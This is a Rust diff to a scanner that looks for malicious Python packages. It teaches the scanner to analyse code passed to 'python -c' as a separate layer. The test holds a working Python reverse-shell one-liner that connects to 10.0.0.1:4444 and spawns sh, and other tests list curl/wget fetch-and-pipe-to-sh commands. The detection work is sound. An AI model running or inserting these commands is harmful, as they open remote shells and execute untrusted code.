@@ -327,6 +327,7 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
     checker.note_program(known.unwrap_or(&shown));
     check_hidden_window(checker, call, qualname, context);
     check_silenced_interpreter(checker, call, qualname, context);
+    push_inline_program(checker, call, command_arg, known.map(String::as_str));
     check_runs_saved_file(checker, call, qualname, known.unwrap_or(&shown), context);
     let evasion = known.filter(|text| disables_defenses(text));
     let off_index = known.and_then(|text| pip_install_off_index(text).map(|host| (text, host)));
@@ -584,6 +585,71 @@ fn check_hidden_window(
         severity,
         vec!["spawn", "hidden-window"],
     );
+}
+
+/// `[sys.executable, '-c', code]` or `python3 -c "code"`: the code a second interpreter runs
+/// is Python of this file, analysed as its own layer in the same context.
+fn push_inline_program(
+    checker: &mut Checker,
+    call: &ExprCall,
+    command_arg: Option<&ruff_python_ast::Expr>,
+    known: Option<&str>,
+) {
+    use ruff_python_ast::Expr;
+    let code = match command_arg {
+        Some(
+            Expr::List(ruff_python_ast::ExprList { elts, .. })
+            | Expr::Tuple(ruff_python_ast::ExprTuple { elts, .. }),
+        ) => {
+            let is_python = elts.first().is_some_and(|program| {
+                checker.qualname(program).as_deref() == Some("sys.executable")
+                    || checker
+                        .fold(program)
+                        .and_then(|v| v.as_text())
+                        .is_some_and(|p| is_python_program(&p))
+            });
+            let flag = elts
+                .iter()
+                .position(|e| checker.fold(e).and_then(|v| v.as_text()).as_deref() == Some("-c"));
+            match (is_python, flag) {
+                (true, Some(at)) => elts
+                    .get(at + 1)
+                    .and_then(|code| checker.fold(code))
+                    .and_then(|v| v.as_text()),
+                _ => None,
+            }
+        }
+        _ => known.and_then(inline_code_of_command),
+    };
+    if let Some(code) = code.filter(|c| c.len() >= 8) {
+        checker.push_layer(
+            code,
+            call.range(),
+            "a string literal run by `python -c`".to_owned(),
+        );
+    }
+}
+
+/// `python`, `python3.11`, `/usr/bin/python3`, `pythonw.exe`.
+fn is_python_program(program: &str) -> bool {
+    let name = program.rsplit(['/', '\\']).next().unwrap_or(program);
+    let name = name.strip_suffix(".exe").unwrap_or(name);
+    name.strip_prefix("python").is_some_and(|rest| {
+        rest.is_empty() || rest == "w" || rest.chars().all(|c| c.is_ascii_digit() || c == '.')
+    })
+}
+
+/// The quoted program of a shell command `python3 -c "…"`.
+fn inline_code_of_command(command: &str) -> Option<String> {
+    let (program, rest) = command.trim_start().split_once(' ')?;
+    if !is_python_program(program) {
+        return None;
+    }
+    let rest = rest.trim_start().strip_prefix("-c")?.trim_start();
+    let quote = rest.chars().next().filter(|q| matches!(q, '"' | '\''))?;
+    let body = rest.get(1..)?;
+    let end = body.rfind(quote)?;
+    body.get(..end).map(str::to_owned)
 }
 
 /// `urlretrieve(url, '/tmp/.x.sh')` then `os.system('bash /tmp/.x.sh')`: the file a command
@@ -895,6 +961,25 @@ mod tests {
         assert!(is_dangerous_command("curl -L {file} -O"));
         assert!(is_dangerous_command("wget -q https://x.invalid/a"));
         assert!(is_dangerous_command("curl -s x.invalid/a.sh | sh"));
+    }
+
+    #[test]
+    fn code_given_to_python_dash_c_is_analysed_as_a_layer() {
+        let listed = "import subprocess\ndef run():\n    subprocess.Popen(['python3', '-c', 'import os,pty,socket;s=socket.socket();s.connect((\"10.0.0.1\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'])\n";
+        let found = crate::rules::testing::findings("p/pkg/m.py", listed);
+        assert!(
+            found
+                .iter()
+                .any(|f| f.path.contains("#layer") && f.message.contains("reverse shell")),
+            "{found:#?}"
+        );
+        assert_eq!(
+            inline_code_of_command("python3 -c \"import os; os.system('id')\"").as_deref(),
+            Some("import os; os.system('id')")
+        );
+        assert_eq!(inline_code_of_command("pythonista -c 'x'"), None);
+        assert_eq!(inline_code_of_command("python3 script.py"), None);
+        assert!(is_python_program("/usr/bin/python3.11") && is_python_program("pythonw.exe"));
     }
 
     #[test]
